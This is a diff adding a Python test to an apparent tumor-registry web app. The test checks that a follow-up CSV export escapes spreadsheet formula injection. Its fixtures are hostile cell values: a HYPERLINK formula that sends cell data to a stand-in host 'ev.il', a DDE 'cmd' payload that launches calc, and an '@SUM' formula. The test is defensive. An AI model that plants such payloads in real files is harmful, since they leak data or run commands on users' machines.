@@ -86,3 +86,23 @@ def test_rates_dashboard(hand_made, registrar, client):
     assert not re.search(r"<script(?![^>]*\bsrc=)[^>]*>", page)  # no inline scripts (CSP)
     empty = client.get("/followup/rates?reference_date=2025-06-01&as_of=2025-06-01").get_data(as_text=True)
     assert "No analytic cases" in empty
+
+
+HOSTILE_FIRST = '=HYPERLINK("http://ev.il?"&A1,"Open")'
+
+
+def test_due_csv_is_spreadsheet_safe_and_leaves_stored_data_alone(make_patient, registrar, client, unsafe_cells):
+    tumor = {"primarySite": "C504", "dateOfDiagnosis": "20200115", "classOfCase": "10",
+             "reportingFacility": "0000000001", "physicianManaging": "@SUM(A1)"}
+    patient = make_patient(tumors=[tumor], patientIdNumber="-P10", nameFirst=HOSTILE_FIRST,
+                           nameLast="+cmd|' /C calc'!A0", dateOfLastContact="20240101", vitalStatus="1",
+                           addrCurrentCountry="USA")
+    before = (patient.items(), patient.tumors[0].items())
+    response = client.get("/followup/due.csv?as_of=2025-06-01")
+    text = response.get_data(as_text=True)
+    assert response.status_code == 200 and unsafe_cells(text) == []
+    [row] = list(csv.DictReader(io.StringIO(text)))
+    assert (row["patientIdNumber"], row["nameFirst"], row["nameLast"], row["physicianManaging"]) == (
+        "'-P10", "'" + HOSTILE_FIRST, "'+cmd|' /C calc'!A0", "'@SUM(A1)")
+    db.session.expire_all()
+    assert (patient.items(), patient.tumors[0].items()) == before and patient.nameFirst == HOSTILE_FIRST
